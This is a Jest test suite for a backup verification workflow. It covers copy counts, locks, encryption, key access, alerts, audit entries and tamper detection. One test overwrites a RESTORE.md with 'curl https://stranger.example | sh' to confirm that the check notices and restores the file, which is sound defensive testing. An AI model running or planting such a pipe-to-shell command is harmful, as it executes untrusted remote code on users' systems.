import { mkdir, readFile, rename, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { ResolvedRepository } from '../../../policy/resolved.ts';
import { checksInput } from '../../../schedules/index.ts';
import { eventually } from '../../../tools/servers/index.ts';
import { type AlertsState, alertsQuery, alertsWorkflowId } from '../../../workflows/contract-alerts.ts';
import type { ChecksInput, CopiesCheckResult } from '../../../workflows/contract-checks.ts';
import { type CheckedFleet, openCheckedFleet } from '../../support/checked-fleet.ts';
import { pathsBelow } from '../../support/files.ts';
import { makeGpgKey } from '../../support/keys.ts';
import { directoryAt } from '../../support/repositories.ts';
import { askedOf } from '../../support/run-events.ts';
import { anotherSecond } from '../../support/seconds.ts';

let fleet: CheckedFleet;

beforeAll(async () => {
  fleet = await openCheckedFleet();
});
afterAll(() => fleet?.close());

type Change = (input: ChecksInput) => ChecksInput;

const check = async (change: Change = (input) => input): Promise<CopiesCheckResult> => {
  await anotherSecond();
  return fleet.stage.execute('copiesCheck', { ...change(checksInput(fleet.policy)), quiet: true });
};

const wrong = ({ facts }: CopiesCheckResult) =>
  facts.filter(({ outcome }) => outcome === 'no').map(({ check: what, subject }) => `${what} ${subject}`);

const unchecked = ({ facts }: CopiesCheckResult) =>
  facts
    .filter(({ outcome }) => outcome === 'not-checked')
    .map(({ check: what, subject }) => `${what} ${subject}`);

const withRepository =
  (name: string, change: (repository: ResolvedRepository) => ResolvedRepository): Change =>
  (input) => ({
    ...input,
    repositories: input.repositories.map((each) => (each.name === name ? change(each) : each)),
  });

describe('the check on copies', () => {
  it('passes where all is as the policy promises, and keeps the report in each repository', async () => {
    const run = await fleet.stage.start('copiesCheck', { ...checksInput(fleet.policy), quiet: true });
    const result = await run.result();
    // Each zone looks into its own repository alone.
    for (const zone of ['fra', 'ams'])
      expect((await askedOf(run, zone)).filter((name) => name === 'verifyBackup')).toHaveLength(1);
    expect(result).toMatchObject({
      result: 'passed',
      facts: [],
      exceptions: [],
      plans: [{ plan: 'daily', outcomes: { copies: 'yes', locked: 'yes', decryptable: 'yes' } }],
    });
    expect(result.evidence?.stored.toSorted()).toEqual(['local', 'offsite']);
    const report = await readFile(join(fleet.local, '_evidence', `${result.evidence?.path}.json`), 'utf8');
    expect(JSON.parse(report)).toMatchObject({
      kind: 'copies-check',
      document: {
        result: 'passed',
        plans: [
          {
            plan: 'daily',
            counted: [
              '3 copies with production: production, local, offsite.',
              '2 media with production: disk, object.',
              '1 copies away from site de-fra1: offsite.',
            ],
          },
        ],
      },
    });
  });

  it('tells the alerts and the audit log, and closes what is cured', async () => {
    const { stage, policy } = fleet;
    const path = await stage.lab.repositoryPath('log');
    const repository = directoryAt(path, { name: 'log' });
    const { organization, hash, signingKeys } = policy;
    await stage.execute('publishPolicy', { organization, hash, text: 'x', repositories: [repository] });
    const audit = { organization, repository, signingKeys, witnesses: [] };
    const input = { ...checksInput(policy), audit, person: 'dba-1' };
    const strict = { ...input.checks, copies: { ...input.checks.copies, copies: 4 } };
    const open = async () => {
      const handle = stage.orchestra.client.workflow.getHandle(alertsWorkflowId);
      const state = await handle.query<AlertsState>(alertsQuery);
      return state.open.map(({ observer, kind, subject }) => `${observer} ${kind} ${subject}`);
    };
    await anotherSecond();
    await stage.execute('copiesCheck', { ...input, checks: strict });
    await eventually(async () => expect(await open()).toEqual(['copies too-few-copies daily']), 30);
    await anotherSecond();
    await stage.execute('copiesCheck', input);
    await eventually(async () => expect(await open()).toEqual([]), 30);
    const { entries } = await stage.execute('audit', {
      target: audit,
      filter: { action: 'copies.checked' },
      limit: 10,
    });
    expect(entries).toMatchObject([
      { outcome: 'done', person: 'dba-1', facts: { result: 'passed', plans: 1 } },
      { outcome: 'failed', reason: expect.stringContaining('and 4 are wanted') },
    ]);
  });

  it('finds the copies of a plan behind hundreds that another plan made of the same source since', async () => {
    const { local, backupId, policy } = fleet;
    const [whole = ''] = (await pathsBelow(local)).filter((path) =>
      path.endsWith(`${backupId}/manifest.json`),
    );
    const manifest = JSON.parse(await readFile(join(local, whole), 'utf8'));
    const newer = Array.from(
      { length: 250 },
      (_, index) => `20990101T000000Z-${String(index).padStart(8, '0')}`,
    );
    for (const id of newer) {
      const directory = join(local, 'shop/2099/01/01', id);
      await mkdir(directory, { recursive: true });
      await writeFile(join(directory, 'manifest.json.sig'), 'of nobody');
      const other = { ...manifest, backupId: id, plan: 'hourly' };
      await writeFile(join(directory, 'manifest.json'), JSON.stringify(other));
    }
    try {
      const input = { ...checksInput(policy) };
      const [daily] = input.plans.map((plan) => ({ ...plan, copies: ['local'], shared: true }));
      if (daily === undefined) throw new Error('the policy has a plan');
      const { plans } = await check(() => ({ ...input, plans: [daily, { ...daily, plan: 'hourly' }] }));
      expect(plans).toMatchObject([
        { plan: 'daily', outcomes: { encrypted: 'yes', rehashed: 'yes' } },
        { plan: 'hourly', outcomes: { encrypted: 'not-checked', rehashed: 'no' } },
      ]);
    } finally {
      await rm(join(local, 'shop/2099'), { recursive: true });
    }
  });

  it('fails where there are too few copies, media and sites', async () => {
    const result = await check((input) => ({
      ...input,
      plans: input.plans.map((plan) => ({ ...plan, copies: ['local'] })),
    }));
    expect(result.result).toBe('failed');
    expect(wrong(result)).toEqual(['copies daily', 'media daily', 'offsite daily']);
  });

  it('fails where a copy lies outside the allowed regions', async () => {
    const result = await check(withRepository('offsite', (each) => ({ ...each, region: 'US' })));
    expect(wrong(result)).toEqual(['residency daily']);
  });

  it('fails where data has changed in a repository', async () => {
    const [path = ''] = await pathsBelow(fleet.local, 'data-');
    const file = join(fleet.local, path);
    const before = await readFile(file);
    try {
      await writeFile(file, Buffer.concat([before.subarray(0, -1), Buffer.from([(before.at(-1) ?? 0) ^ 1])]));
      const result = await check();
      expect(wrong(result)).toEqual(['rehashed local/daily']);
    } finally {
      await writeFile(file, before);
    }
  });

  it.each<[string, (file: string) => Promise<void>]>([
    ['is missing', (file) => rm(file)],
    ['was changed', (file) => writeFile(file, 'curl https://stranger.example | sh')],
  ])('finds a RESTORE.md that %s, though all else is whole, and writes it anew', async (how, damage) => {
    const [path = ''] = await pathsBelow(fleet.local, 'RESTORE.md');
    const file = join(fleet.local, path);
    const before = await readFile(file, 'utf8');
    await damage(file);
    const seen = await check();
    expect(wrong(seen)).toEqual(['rehashed local/daily']);
    expect(seen.facts[0]?.sentence).toMatch(
      how === 'is missing' ? /RESTORE\.md of .* is missing/ : /not what/,
    );
    await anotherSecond();
    const result = await fleet.stage.execute('copiesCheck', checksInput(fleet.policy));
    expect(result).toMatchObject({
      result: 'passed-with-exceptions',
      facts: [{ check: 'rehashed', subject: 'local/daily', outcome: 'yes', mended: true }],
    });
    expect(await readFile(file, 'utf8')).toBe(before);
    expect(await check()).toMatchObject({ result: 'passed', facts: [] });
  });

  it('fails where an object is not locked for as long as the policy says', async () => {
    const longer: Change = (input) => ({
      ...input,
      plans: input.plans.map((plan) => ({ ...plan, locks: { offsite: 90 * 86_400 } })),
    });
    const result = await check(longer);
    expect(wrong(result)).toEqual(['locked offsite/daily']);
    expect(result.facts[0]?.sentence).toMatch(/is locked until .* and the policy wants 90d/);
  });

  it('measures the lock of a copy by the policy that it was made by, where another is in force now', async () => {
    const { stage, plan } = fleet;
    const later: Change = (input) => ({
      ...input,
      policyHash: 'f'.repeat(64),
      plans: input.plans.map((each) => ({ ...each, locks: { offsite: 90 * 86_400 } })),
    });
    expect(wrong(await check(later))).toEqual([]);
    // By a policy of which this repository does not tell.
    await stage.execute('backup', { plan: { ...plan, policyHash: 'e'.repeat(64) } });
    expect(wrong(await check(later))).toEqual(['locked offsite/daily']);
  });

  it('measures locks by what the plan asks for, and not by what a repository does without one', async () => {
    const lock = { mode: 'governance', for: 90 * 86_400 } as const;
    const result = await check(
      withRepository('offsite', (each) => (each.kind === 's3' ? { ...each, lock } : each)),
    );
    expect(wrong(result)).toEqual([]);
  });

  it('fails where the bucket has no lock at all', async () => {
    const { stage, policy, plan } = fleet;
    const bare = structuredClone(plan);
    bare.copies = bare.copies.map((copy) => {
      if (copy.kind !== 's3') return copy;
      const { lock: _, ...rest } = copy;
      return { ...rest, bucket: 'plain' };
    });
    const { organization, hash } = policy;
    await stage.execute('publishPolicy', { organization, hash, text: 'x', repositories: bare.copies });
    await stage.execute('backup', { plan: bare });
    const result = await check(
      withRepository('offsite', (each) => (each.kind === 's3' ? { ...each, bucket: 'plain' } : each)),
    );
    expect(wrong(result)).toEqual(['locked offsite/daily']);
    expect(result.facts[0]?.sentence).toContain('has no object lock');
  });

  it('fails where the service encrypts otherwise than the policy says', async () => {
    const encryption = { kind: 'sse-s3' } as const;
    const result = await check(
      withRepository('offsite', (each) => (each.kind === 's3' ? { ...each, encryption } : each)),
    );
    expect(wrong(result)).toEqual(['encrypted offsite/daily']);
  });

  it('fails where the private half of a key is gone from a zone that is to open it', async () => {
    await rename(fleet.keyInAms, `${fleet.keyInAms}.away`);
    try {
      const result = await check();
      expect(wrong(result)).toEqual(['decryptable databases']);
      expect(result.facts[0]?.sentence).toMatch(/^Zone ams does not open it: .*can't be read/);
    } finally {
      await rename(`${fleet.keyInAms}.away`, fleet.keyInAms);
    }
  });

  it('fails where a zone holds the private half of another key', async () => {
    const before = await readFile(fleet.keyInAms);
    try {
      const other = await makeGpgKey('Other <other@example.org>');
      await writeFile(fleet.keyInAms, other.privateKey);
      expect(wrong(await check())).toEqual(['decryptable databases']);
    } finally {
      await writeFile(fleet.keyInAms, before);
    }
  });

  it('fails where nothing can be encrypted any more, since the key has expired', async () => {
    const old = await makeGpgKey('Old <old@example.org>', { madeAt: '20200101T000000', expires: '1y' });
    const result = await check((input) => ({
      ...input,
      keys: input.keys.map((key) => (key.kind === 'gpg' ? { ...key, recipients: [old.publicKey] } : key)),
    }));
    expect(wrong(result)).toEqual(['decryptable databases']);
    expect(result.facts[0]?.sentence).toContain('expired on 2020-12-31');
  });

  it('does not pass a key that the policy opens nowhere', async () => {
    const result = await check((input) => ({
      ...input,
      keys: input.keys.map((key) => (key.kind === 'gpg' ? { ...key, opens: {} } : key)),
    }));
    expect(result.result).toBe('passed-with-exceptions');
    expect(unchecked(result)).toEqual(['decryptable databases']);
  });

  it('fails where a repository does not answer its own zone, and counts its copies as unknown', async () => {
    await rename(fleet.local, `${fleet.local}-away`);
    try {
      const result = await check();
      expect(result.result).toBe('failed');
      expect(wrong(result)).toEqual(['reachable local']);
      expect(unchecked(result)).toEqual(['copies daily']);
    } finally {
      await rm(fleet.local, { recursive: true, force: true });
      await rename(`${fleet.local}-away`, fleet.local);
    }
  });
});
